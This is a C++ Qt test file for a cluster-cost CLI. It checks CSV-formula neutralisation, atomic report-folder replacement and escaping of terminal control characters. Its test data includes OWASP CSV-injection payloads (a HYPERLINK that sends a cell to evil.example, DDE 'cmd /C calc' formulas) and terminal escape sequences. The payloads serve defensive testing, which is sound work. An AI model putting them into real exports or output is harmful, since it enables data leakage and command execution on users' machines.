// Issue 27, part 4 "Safe exports" and the terminal: CSV cells that would start a spreadsheet formula are
// neutralised (OWASP "CSV Injection") while numbers stay numbers; a CSV report folder is replaced as a
// whole (never a mix of old and new files, not even when the writer is killed) and a folder of the user's
// own is refused; what clustertwin-cli prints shows control characters from names as escapes.
#include "csv_cell.h"
#include "design_json.h"
#include "evaluate.h"
#include "input_error.h"
#include "report/csv_report.h"
#include "report/directory_swap.h"
#include "scenarios.h"
#include "terminal_text.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QTemporaryDir>
#include <QThread>
#include <QtTest>
#include <fcntl.h>
#include <filesystem>
#include <nlohmann/json.hpp>
#include <sstream>
#include <sys/file.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace ctwin;

namespace {
const std::string kData = CTWIN_SOURCE_DATA_DIR;
const QString kCli = QStringLiteral(CTWIN_CLI_PATH);
const QString kDesign = QString::fromStdString(kData + "/reference/vera-rubin-504.json");

/// The characters OWASP's "CSV Injection" page lists as starting a formula, with a payload after each.
const std::vector<std::pair<const char*, std::string>> kFormulaStarts = {
    {"equals", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"},
    {"plus", "+cmd|' /C calc'!A0"},
    {"minus", "-2+3+cmd|' /C calc'!A0"},
    {"at", "@SUM(1+9)*cmd|' /C calc'!A0"},
    {"tab", "\t=1+2"},
    {"carriage return", "\r=1+2"},
};

/// Rows of an RFC 4180 file (quoted fields with doubled quotes and line breaks; LF or CRLF line ends), as
/// a spreadsheet or Python's csv module reads it.
std::vector<std::vector<std::string>> parseCsv(const std::string& text) {
    std::vector<std::vector<std::string>> rows(1);
    std::string cell;
    bool quoted = false;
    for (size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"')
                cell += '"', ++i;
            else if (c == '"')
                quoted = false;
            else
                cell += c;
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            rows.back().push_back(cell), cell.clear();
        } else if (c == '\n') {
            rows.back().push_back(cell), cell.clear();
            rows.emplace_back();
        } else {
            cell += c;
        }
    }
    if (!cell.empty() || !rows.back().empty()) rows.back().push_back(cell);
    if (rows.back().empty()) rows.pop_back();
    return rows;
}

std::string readFile(const QString& path) {
    QFile f(path);
    if (!f.open(QIODevice::ReadOnly)) return {};
    return f.readAll().toStdString();
}

void writeFile(const QString& path, const std::string& text) {
    QFile f(path);
    QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
    f.write(text.data(), static_cast<qint64>(text.size()));
}

QStringList entries(const QString& dir) {
    return QDir(dir).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot, QDir::Name);
}

/// Every file of a folder with its bytes.
std::map<QString, std::string> snapshot(const QString& dir) {
    std::map<QString, std::string> files;
    for (const QString& e : entries(dir))
        files[e] = readFile(dir + "/" + e);
    return files;
}

struct Run {
    int code;
    QByteArray out, err;
};
Run cli(const QStringList& args) {
    QProcess p;
    p.start(kCli, args);
    if (!p.waitForFinished(120000)) return {-1, {}, "timeout"};
    return {p.exitCode(), p.readAllStandardOutput(), p.readAllStandardError()};
}

/// No raw control character that could drive a terminal: C0 but LF and TAB, DEL, and C1 in UTF-8 (C2 80..C2
/// 9F; a lone byte 0x80..0x9F is also a continuation byte of other characters, e.g. the euro sign).
bool terminalSafe(const QByteArray& bytes) {
    for (qsizetype i = 0; i < bytes.size(); ++i) {
        const auto c = static_cast<unsigned char>(bytes[i]);
        if ((c < 0x20 && c != '\n' && c != '\t') || c == 0x7f) return false;
        if (c == 0xc2 && i + 1 < bytes.size() && static_cast<unsigned char>(bytes[i + 1]) <= 0x9f)
            return false;
    }
    return true;
}

const std::string kHostileName = "Evil \x1b[31mred\x1b[0m \x1b]0;pwned\x07 csi\xc2\x9b"
                                 "2J end";
} // namespace

class TestSafeExports : public QObject {
    Q_OBJECT
    QTemporaryDir m_dir;
    model::Catalog m_catalog;
    model::AssumptionSet m_defaults;
    model::Project m_project;
    cost::Results m_results;

    QString path(const QString& name) const { return m_dir.filePath(name); }

    app::ReportInput input(const model::Project* project, const cost::Results* results) const {
        app::ReportInput in;
        in.project = project;
        in.results = results;
        in.assumptions = model::mergeAssumptions(m_defaults, project->assumptions);
        return in;
    }

    /// A comparison CSV folder of the design under `name` beside itself under "baseline".
    std::vector<std::vector<std::string>> comparisonRows(const std::string& name, const QString& dir) {
        app::ComparisonInput in;
        const std::vector<cost::Results> both{m_results, m_results};
        in.comparison = cost::compareDesigns({"baseline", name}, both, 0);
        in.results = {&both[0], &both[1]};
        app::writeComparisonCsv(in, dir.toStdString());
        return parseCsv(readFile(dir + "/comparison.csv"));
    }

    /// A copy of the small reference design with `edit` applied, written as `file`.
    QString designFile(const QString& file, const std::function<void(nlohmann::ordered_json&)>& edit) {
        auto design = nlohmann::ordered_json::parse(readFile(kDesign));
        edit(design);
        const QString p = path(file);
        writeFile(p, design.dump(1));
        return p;
    }

private slots:
    void initTestCase() {
        QVERIFY(m_dir.isValid());
        m_catalog = model::loadCatalogDirectory(kData + "/catalog");
        m_defaults = model::loadAssumptionsFile(kData + "/assumptions.json");
        m_project = model::loadProjectJson(kDesign.toStdString(), &m_catalog);
        m_results = cost::evaluate(m_project, m_catalog, m_defaults);
    }

    // --- the cell rule -------------------------------------------------------------------------------------

    void textCellsThatStartAFormulaAreNeutralised_data() {
        QTest::addColumn<QString>("text");
        for (const auto& [label, text] : kFormulaStarts)
            QTest::newRow(label) << QString::fromStdString(text);
        QTest::newRow("text that looks like a negative number") << QStringLiteral("-3.5");
    }
    void textCellsThatStartAFormulaAreNeutralised() {
        QFETCH(QString, text);
        const std::string s = text.toStdString();
        const std::string field = cost::csvField(cost::CsvCell(s));
        // Quoted, a single quote first, inner quotes doubled: read back, the cell is "'" + the text.
        QVERIFY2(field.rfind("\"'", 0) == 0, field.c_str());
        const auto rows = parseCsv(field + "\n");
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].size(), size_t(1));
        QCOMPARE(rows[0][0], "'" + s);
    }

    void numbersStayNumbers() {
        // A number is written as produced, never quoted or prefixed, negative or not.
        QCOMPARE(cost::csvField(cost::CsvCell::number(-3.5)), std::string("-3.5"));
        QCOMPARE(cost::csvField(cost::CsvCell::number(-1e-7)), std::string("-1e-07"));
        QCOMPARE(cost::csvField(cost::CsvCell::number(0.1)), std::string("0.1"));
        QCOMPARE(cost::csvField(cost::CsvCell::wholeNumber(1000000000000000)),
                 std::string("1000000000000000"));
        // Harmless text is left as it is; RFC 4180 quoting still applies.
        QCOMPARE(cost::csvField(cost::CsvCell("plain text")), std::string("plain text"));
        QCOMPARE(cost::csvField(cost::CsvCell("")), std::string(""));
        QCOMPARE(cost::csvLine({"a", cost::CsvCell::number(-2), "x=1"}), std::string("a,-2,x=1\n"));
    }

    void commaAndQuoteInANameRoundTrip() {
        const std::string name = "Big, \"fast\" cluster";
        QCOMPARE(cost::csvField(cost::CsvCell(name)), std::string("\"Big, \"\"fast\"\" cluster\""));
        const auto rows = comparisonRows(name, path("cmp-comma"));
        bool seen = false;
        for (const auto& r : rows)
            if (r.size() == 10 && r[3] == name) seen = true;
        QVERIFY(seen);
        // A formula start and a quote together: neutralised and quoted once.
        QCOMPARE(cost::csvField(cost::CsvCell("=\"x\",1")), std::string("\"'=\"\"x\"\",1\""));
    }

    // --- the report tables ---------------------------------------------------------------------------------

    void designNamesAreNeutralisedInTheComparisonCsv_data() {
        textCellsThatStartAFormulaAreNeutralised_data();
    }
    void designNamesAreNeutralisedInTheComparisonCsv() {
        QFETCH(QString, text);
        const std::string name = text.toStdString();
        const QString dir = path("cmp-" + QString::number(qHash(text)));
        const auto rows = comparisonRows(name, dir);
        QCOMPARE(rows[0][3], std::string("design"));
        size_t named = 0;
        for (size_t i = 1; i < rows.size(); ++i) {
            QCOMPARE(rows[i].size(), size_t(10));
            QVERIFY2(rows[i][3] != name, "a formula reached the design column unchanged");
            if (rows[i][3] == "'" + name) ++named;
        }
        QVERIFY(named > 0);
        // capex.csv: category,design,cost_usd: the name neutralised, the cost a number.
        for (const auto& r : parseCsv(readFile(dir + "/capex.csv")))
            if (r[1] != "design" && r[1] != "baseline") {
                QCOMPARE(r[1], "'" + name);
                bool number = false;
                QString::fromStdString(r[2]).toDouble(&number);
                QVERIFY(number);
            }
    }

    void assumptionSourcesAreNeutralised_data() { textCellsThatStartAFormulaAreNeutralised_data(); }
    void assumptionSourcesAreNeutralised() {
        QFETCH(QString, text);
        auto in = input(&m_project, &m_results);
        in.assumptions.at("wacc").source = text.toStdString();
        const QString dir = path("src-" + QString::number(qHash(text)));
        app::writeCsvReport(in, dir.toStdString());
        const auto rows = parseCsv(readFile(dir + "/assumptions.csv"));
        QCOMPARE(rows[0][7], std::string("source"));
        bool seen = false;
        for (const auto& r : rows)
            if (r[0] == "wacc") {
                QCOMPARE(r.size(), size_t(10));
                QCOMPARE(r[7], "'" + text.toStdString());
                seen = true;
            }
        QVERIFY(seen);
    }

    void negativeFiguresStayNegativeNumbers() {
        // Year 0 of the cash flow is the capex outlay: a negative number, written bare.
        const QString dir = path("negative");
        app::writeCsvReport(input(&m_project, &m_results), dir.toStdString());
        const std::string text = readFile(dir + "/cashflow.csv");
        const auto rows = parseCsv(text);
        QCOMPARE(rows[0][5], std::string("net_cash_flow_usd"));
        const std::string cell = rows[1][5];
        QVERIFY2(cell.rfind("-", 0) == 0, cell.c_str());
        QCOMPARE(std::stod(cell), m_results.finance.cashFlows.at(0).value());
        QVERIFY(text.find("," + cell + ",") != std::string::npos); // unquoted, no leading quote
        QVERIFY(text.find("'-") == std::string::npos);
    }

    // --- the folder swap -----------------------------------------------------------------------------------

    void folderIsReplacedAsAWhole() {
        // Old: a report with sensitivity and uncertainty tables (11 files with the timeline). New: without them
        // (9 files). The folder afterwards is exactly the new report: no table of the old one survives beside
        // it.
        const QString dir = path("swap");
        auto full = input(&m_project, &m_results);
        full.tornado = cost::Tornado{"finance.cost_per_gpu_hour_usd", 1.0, {}};
        full.uncertainty = std::map<std::string, cost::Percentiles>{{"power.pue", {1, 1.1, 1.2, 1.1}}};
        app::writeCsvReport(full, dir.toStdString());
        QCOMPARE(entries(dir).size(), 11);
        QVERIFY(entries(dir).contains("uncertainty.csv"));
        struct stat before {};
        QCOMPARE(::stat(dir.toLocal8Bit().constData(), &before), 0);

        auto lean = input(&m_project, &m_results);
        lean.assumptions.at("wacc").source = "new source";
        app::writeCsvReport(lean, dir.toStdString());
        QCOMPARE(entries(dir),
                 QStringList({"assumptions.csv", "capex.csv", "capex_analyst.csv", "cashflow.csv",
                              "depreciation.csv", "rules.csv", "summary.csv", "tco_conventions.csv",
                              "timeline.csv"}));
        QVERIFY(readFile(dir + "/assumptions.csv").find("new source") != std::string::npos);
        struct stat after {};
        QCOMPARE(::stat(dir.toLocal8Bit().constData(), &after), 0);
        QVERIFY(after.st_ino != before.st_ino); // a new folder took the name
        // Nothing left beside it.
        QCOMPARE(QDir(path("")).entryList({".swap.*"}, QDir::AllEntries | QDir::Hidden).size(), 0);
    }

    void staleTemporaryFoldersAreRemoved() {
        const QString dir = path("stale");
        QVERIFY(QDir().mkpath(dir));
        // What killed writes left: a temporary folder (with a half-written table) and an old folder set
        // aside; one that a running write holds (locked) and a look-alike name are kept.
        for (const QString& name :
             {QStringLiteral(".stale.tmp-AbC123"), QStringLiteral(".stale.old-XyZ789"),
              QStringLiteral(".stale.tmp-Locked"), QStringLiteral(".stale.tmp-toolong1")}) {
            QVERIFY(QDir().mkpath(path(name)));
            writeFile(path(name) + "/summary.csv", "key,val");
        }
        const int lock = ::open(path(".stale.tmp-Locked").toLocal8Bit().constData(), O_RDONLY | O_DIRECTORY);
        QVERIFY(lock >= 0);
        QCOMPARE(::flock(lock, LOCK_EX), 0);
        app::writeCsvReport(input(&m_project, &m_results), dir.toStdString());
        ::close(lock);
        QVERIFY(!QFileInfo::exists(path(".stale.tmp-AbC123")));
        QVERIFY(!QFileInfo::exists(path(".stale.old-XyZ789")));
        QVERIFY(QFileInfo::exists(path(".stale.tmp-Locked/summary.csv")));
        QVERIFY(QFileInfo::exists(path(".stale.tmp-toolong1/summary.csv")));
        // Unlocked now: the next write removes it.
        app::writeCsvReport(input(&m_project, &m_results), dir.toStdString());
        QVERIFY(!QFileInfo::exists(path(".stale.tmp-Locked")));
        QVERIFY(QFileInfo::exists(path(".stale.tmp-toolong1")));
        QCOMPARE(app::removeStaleDirectoryTemps(std::filesystem::path(dir.toStdString())), 0);
    }

    void foldersOfTheUsersOwnAreRefused() {
        const auto in = input(&m_project, &m_results);
        auto refuses = [&](const QString& dir, const QString& naming) {
            const auto before = snapshot(dir);
            try {
                app::writeCsvReport(in, dir.toStdString());
            } catch (const model::InputError& e) {
                const QString msg = QString::fromUtf8(e.what());
                return msg.contains(dir) && msg.contains(naming) && msg.contains("unchanged") &&
                       snapshot(dir) == before;
            }
            return false;
        };
        // A folder of documents, with one file that happens to share a table's name.
        const QString docs = path("documents");
        QVERIFY(QDir().mkpath(docs));
        writeFile(docs + "/notes.txt", "mine");
        writeFile(docs + "/summary.csv", "mine too");
        QVERIFY(refuses(docs, "notes.txt"));
        // A subfolder, a symbolic link named as a table, a hidden file.
        const QString sub = path("with-sub");
        QVERIFY(QDir().mkpath(sub + "/photos"));
        QVERIFY(refuses(sub, "photos/"));
        const QString linked = path("with-link");
        QVERIFY(QDir().mkpath(linked));
        QVERIFY(QFile::link(docs + "/notes.txt", linked + "/rules.csv"));
        QVERIFY(refuses(linked, "rules.csv"));
        const QString hidden = path("with-hidden");
        QVERIFY(QDir().mkpath(hidden));
        writeFile(hidden + "/.git", "x");
        QVERIFY(refuses(hidden, ".git"));
        // '.' is never replaced.
        QVERIFY_THROWS_EXCEPTION(model::InputError, app::writeCsvReport(in, "."));
        // An empty folder and a folder of an earlier CSV report (even one a killed file-by-file write of an
        // older version left a temporary in) are replaced.
        const QString empty = path("empty");
        QVERIFY(QDir().mkpath(empty));
        app::writeCsvReport(in, empty.toStdString());
        QVERIFY(QFileInfo::exists(empty + "/summary.csv"));
        writeFile(empty + "/.rules.csv.tmp-Ab12Cd", "half");
        app::writeCsvReport(in, (empty + "/").toStdString());
        QVERIFY(!QFileInfo::exists(empty + "/.rules.csv.tmp-Ab12Cd"));
        // Through a symbolic link: the folder it points to is replaced, the link stays a link.
        const QString link = path("report-link");
        QVERIFY(QFile::link(empty, link));
        app::writeCsvReport(in, link.toStdString());
        QVERIFY(QFileInfo(link).isSymLink());
        QVERIFY(QFileInfo::exists(link + "/summary.csv"));
    }

    void aKilledWriteLeavesTheOldOrTheNewFolder() {
        // `report --csv` killed at times spread over its run: the folder is always one whole report, the old
        // one (WACC 5%) or the new one (WACC 11%), never a mix; the next write cleans up what was left.
        const QString oldRef = path("kill-old"), newRef = path("kill-new"), target = path("kill-target");
        auto report = [&](const QString& dir, const char* wacc) {
            return QStringList{"report",    kDesign, "--csv", dir,
                               "--samples", "0",     "--set", QStringLiteral("assumptions.wacc=") + wacc};
        };
        QElapsedTimer timer;
        timer.start();
        QCOMPARE(cli(report(oldRef, "0.05")).code, 0);
        const qint64 runMs = timer.elapsed();
        QCOMPARE(cli(report(newRef, "0.11")).code, 0);
        const auto oldFiles = snapshot(oldRef), newFiles = snapshot(newRef);
        QVERIFY(oldFiles != newFiles);
        int sawOld = 0, sawNew = 0;
        const int trials = 16;
        for (int i = 0; i < trials; ++i) {
            QCOMPARE(cli(report(target, "0.05")).code, 0);
            QCOMPARE(snapshot(target), oldFiles);
            QProcess p;
            p.start(kCli, report(target, "0.11"));
            QVERIFY(p.waitForStarted());
            // From a third of the run time to a little past it, where the tables are written.
            QThread::msleep(static_cast<unsigned long>(runMs * (30 + 80 * i / trials) / 100));
            p.kill();
            p.waitForFinished();
            const auto now = snapshot(target);
            QVERIFY2(now == oldFiles || now == newFiles, qPrintable(entries(target).join(' ')));
            (now == oldFiles ? sawOld : sawNew)++;
        }
        qInfo("killed %d times: old folder %d, new folder %d", trials, sawOld, sawNew);
        QCOMPARE(cli(report(target, "0.11")).code, 0);
        QCOMPARE(snapshot(target), newFiles);
        QCOMPARE(QDir(path("")).entryList({".kill-target.*"}, QDir::AllEntries | QDir::Hidden).size(), 0);
    }

    void cliCsvOutputsUseTheSameRule() {
        // report of two designs: the design column of comparison.csv; the "wrote" line names the folder.
        const QString evil = designFile("evil-formula.json", [](auto& d) {
            d["project"]["id"] = "evil";
            d["project"]["name"] = "=HYPERLINK(\"http://evil.example\",\"x\")";
            d["assumptions"]["wacc"] = {
                {"base", 0.07}, {"low", 0.05}, {"high", 0.1}, {"source", "+cmd|' /C calc'!A0"}};
        });
        const QString dir = path("cli-cmp");
        auto r = cli({"report", evil, QString::fromStdString(kData + "/reference/llama3-16k-h100.json"),
                      "--csv", dir});
        QVERIFY2(r.code == 0, r.err.constData());
        bool seen = false;
        for (const auto& row : parseCsv(readFile(dir + "/comparison.csv")))
            seen = seen || row[3] == "'=HYPERLINK(\"http://evil.example\",\"x\")";
        QVERIFY(seen);
        // One design: the assumption source from the design file.
        r = cli({"report", evil, "--csv", path("cli-one"), "--samples", "0"});
        QVERIFY2(r.code == 0, r.err.constData());
        seen = false;
        for (const auto& row : parseCsv(readFile(path("cli-one/assumptions.csv"))))
            seen = seen || (row[0] == "wacc" && row[7] == "'+cmd|' /C calc'!A0");
        QVERIFY(seen);
        // sweep --csv: keys are text, values numbers in the shortest form that reads back the same.
        r = cli({"sweep", evil, "--vary", "assumptions.wacc=0.05:0.07:2", "--output",
                 "finance.tco_annual_usd", "--csv"});
        QVERIFY2(r.code == 0, r.err.constData());
        const auto rows = parseCsv(r.out.toStdString());
        QCOMPARE(rows[0], (std::vector<std::string>{"assumptions.wacc", "finance.tco_annual_usd"}));
        QCOMPARE(rows[1][0], std::string("0.05"));
    }

    // --- the terminal
    // ----------------------------------------------------------------------------------------

    void controlCharactersAreEscaped_data() {
        QTest::addColumn<QByteArray>("raw");
        QTest::addColumn<QByteArray>("shown");
        QTest::newRow("ESC, a colour") << QByteArray("a\x1b[31mb") << QByteArray("a\\u001b[31mb");
        QTest::newRow("OSC, a window title")
            << QByteArray("\x1b]0;title\x07") << QByteArray("\\u001b]0;title\\u0007");
        QTest::newRow("C1 CSI in UTF-8") << QByteArray("x\xc2\x9b"
                                                       "2J")
                                         << QByteArray("x\\u009b2J");
        QTest::newRow("CR, DEL, NUL") << QByteArray("a\rb\x7f"
                                                    "c\0d",
                                                    7)
                                      << QByteArray("a\\u000db\\u007fc\\u0000d");
        QTest::newRow("LF and TAB pass") << QByteArray("a\tb\nc") << QByteArray("a\tb\nc");
        QTest::newRow("UTF-8 text passes") << QByteArray("45 \xc2\xb0"
                                                         "C \xe2\x82\xac \xf0\x9f\x98\x80 \xc2\xa0")
                                           << QByteArray("45 \xc2\xb0"
                                                         "C \xe2\x82\xac \xf0\x9f\x98\x80 \xc2\xa0");
        QTest::newRow("bytes that are not UTF-8") << QByteArray("a\x9b"
                                                                "b\xff\xc0\xaf\xe2\x82")
                                                  << QByteArray("a\\x9bb\\xff\\xc0\\xaf\\xe2\\x82");
    }
    void controlCharactersAreEscaped() {
        QFETCH(QByteArray, raw);
        QFETCH(QByteArray, shown);
        QCOMPARE(QByteArray::fromStdString(app::escapeTerminalText(raw.toStdString())), shown);
        // Through the stream filter, one byte at a time: a character split across writes is still whole.
        std::ostringstream sink;
        {
            app::TerminalTextFilter filter(sink);
            for (const char c : raw)
                sink << c;
        }
        QCOMPARE(QByteArray::fromStdString(sink.str()), shown);
    }

    void evaluatePrintsAHostileNameEscaped() {
        const QString file = designFile("hostile.json", [](auto& d) { d["project"]["name"] = kHostileName; });
        const auto r = cli({"evaluate", file});
        QVERIFY2(r.code == 0, r.err.constData());
        QVERIFY2(terminalSafe(r.out), r.out.left(200).constData());
        QVERIFY(r.out.startsWith("Evil \\u001b[31mred\\u001b[0m \\u001b]0;pwned\\u0007 csi\\u009b2J end  ("));
    }

    void validatePrintsHostileFileNamesAndMessagesEscaped() {
        // The file name is printed on success; an entity name in the error message on failure.
        const QString file = designFile(QString::fromUtf8("name\x1b]0;pwned\x07\xc2\x9b.json"), [](auto&) {});
        auto r = cli({"validate", file});
        QVERIFY2(r.code == 0, r.err.constData());
        QVERIFY(terminalSafe(r.out));
        QVERIFY2(r.out.contains("name\\u001b]0;pwned\\u0007\\u009b.json: ok"), r.out.constData());
        const QString bad = designFile("bad-site.json", [](auto& d) {
            d["sites"][0]["name"] = kHostileName;
            d["sites"][0]["lat_deg"] = 200;
        });
        r = cli({"validate", bad});
        QCOMPARE(r.code, 3);
        QVERIFY2(terminalSafe(r.err), r.err.constData());
        QVERIFY2(r.err.contains("Evil \\u001b[31mred"), r.err.constData());
    }

    void jsonOutputStaysValidWithTheSameNames() {
        // compare --json carries the design names: escaped as JSON escapes, so a parser reads the very
        // same names back.
        const QString a = designFile("hostile-a.json", [](auto& d) { d["project"]["name"] = kHostileName; });
        const auto r =
            cli({"compare", a, QString::fromStdString(kData + "/reference/llama3-16k-h100.json"), "--json"});
        QVERIFY2(r.code == 0, r.err.constData());
        QVERIFY(terminalSafe(r.out));
        const auto j = nlohmann::json::parse(r.out.toStdString());
        QCOMPARE(j["designs"][0].get<std::string>(), kHostileName);
    }
};

QTEST_GUILESS_MAIN(TestSafeExports)
#include "test_safe_exports.moc"
